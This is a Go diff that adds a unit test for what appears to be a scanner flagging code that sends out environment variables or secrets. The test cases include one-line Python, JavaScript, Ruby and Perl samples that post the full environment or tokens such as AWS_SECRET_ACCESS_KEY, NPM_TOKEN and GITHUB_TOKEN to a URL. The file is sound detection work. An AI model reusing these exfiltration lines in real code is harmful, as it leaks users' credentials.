@@ -305,3 +305,25 @@ func hostForParse(h string) string {
 	}
 	return h
 }
+
+func TestCodeEnvironment(t *testing.T) {
+	t.Parallel()
+	for _, tt := range []struct{ code, want string }{
+		{"requests.post(u, data=dict(os.environ))", sentEnvironment},
+		{"fetch(u,{body:JSON.stringify(process.env)})", sentEnvironment},
+		{"Net::HTTP.post(URI(u), ENV.to_h.to_s)", sentEnvironment},
+		{"x = os.environ.copy()", sentEnvironment},
+		{"requests.get(u+os.environ['AWS_SECRET_ACCESS_KEY'])", sentSecretVar},
+		{"requests.get(u, headers={'t': os.getenv('NPM_TOKEN')})", sentSecretVar},
+		{"fetch(u+process.env.GITHUB_TOKEN)", sentSecretVar},
+		{`get("u?k=$ENV{AWS_SECRET_ACCESS_KEY}")`, sentSecretVar},
+		{"requests.get(u+os.environ['HOME'])", ""},
+		{"fetch(u+process.env.npm_package_name)", ""},
+		{"MY_ENV = 1; ENVIRONMENT = 2", ""},
+		{"print('hello')", ""},
+	} {
+		if got := codeEnvironment(tt.code); got != tt.want {
+			t.Errorf("codeEnvironment(%q) = %q, want %q", tt.code, got, tt.want)
+		}
+	}
+}
